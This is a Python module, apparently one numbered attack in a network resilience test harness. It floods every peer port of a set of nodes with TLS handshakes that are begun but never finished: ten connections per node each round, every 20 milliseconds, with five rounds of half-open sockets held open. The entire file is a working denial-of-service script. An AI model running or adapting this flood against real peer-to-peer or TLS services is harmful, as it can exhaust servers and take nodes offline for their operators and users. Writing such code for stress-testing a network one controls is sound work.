"""TLS handshakes with the ports for peers that are begun and not ended, as fast as can be."""

import asyncio
import socket
from contextlib import suppress

from network import NetworkSeen

from attacks.flood import ATTACKER_HOST, Attack, make_hello, say_ready

_A_TURN = 10
"""Connections to each node."""
_PAUSE_S = 0.02
_HELD_TURNS = 5


async def _attack(network: NetworkSeen) -> None:
    loop, hello = asyncio.get_running_loop(), make_hello()
    ports = [
        (host, int(port)) for host, _, port in (n.peers.rpartition(":") for n in network.nodes)
    ]
    held: list[list[socket.socket]] = []
    say_ready()
    while True:
        begun = [await _begin(loop, port, hello) for port in ports for _ in range(_A_TURN)]
        held.append(begun)
        if len(held) > _HELD_TURNS:
            for one in held.pop(0):
                one.close()
        await asyncio.sleep(_PAUSE_S)


async def _begin(
    loop: asyncio.AbstractEventLoop, port: tuple[str, int], hello: bytes
) -> socket.socket:
    one = socket.socket()
    one.settimeout(0)
    one.bind((ATTACKER_HOST, 0))
    with suppress(OSError):
        await loop.sock_connect(one, port)
        one.send(hello)
    return one


ATTACK = Attack(
    number=2,
    summary=f"up to {_A_TURN / _PAUSE_S:g} TLS handshakes a second with each port for peers",
    run=_attack,
)
